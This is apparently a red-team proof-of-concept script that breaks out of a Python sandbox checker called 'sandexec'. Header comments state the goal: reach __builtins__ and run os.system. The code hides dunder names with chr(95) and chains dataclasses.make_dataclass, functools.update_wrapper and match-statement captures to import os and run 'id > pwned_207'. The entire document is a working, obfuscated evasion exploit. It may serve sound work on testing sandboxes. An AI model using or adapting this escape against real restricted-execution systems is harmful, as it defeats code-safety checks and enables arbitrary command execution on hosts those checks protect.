# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 3 match class pattern positional captures (make_dataclass)
# source: own; dataclasses.make_dataclass sets __match_args__ from run-time field names (CPython Lib/dataclasses.py), functools.update_wrapper copies a module's __dict__ into an instance
# family: plain stdlib composition, no dunder in source, no def-defined dunder, no decoy: update_wrapper + match positional capture on a dataclass with run-time field names
# goal: json module globals -> __builtins__ dict -> __import__('os').system('id')
import dataclasses
import functools
import json

import pandas as pd

u = chr(95) * 2
D = dataclasses.make_dataclass("D", [u + "builtins" + u])
box = D(None)
functools.update_wrapper(box, json)
match box:
    case D(b):
        pass
o = b[u + "import" + u]("o" + "s")
match o:
    case _:
        pass
E = dataclasses.make_dataclass("E", ["sys" + "tem"])
sink = E(None)
functools.update_wrapper(sink, o)
match sink:
    case E(run):
        rc = run("id > pwned_207")
print(json.dumps({"os": repr(o), "rc": rc, "proof": pd.read_csv("pwned_207", header=None).iloc[0, 0]}))
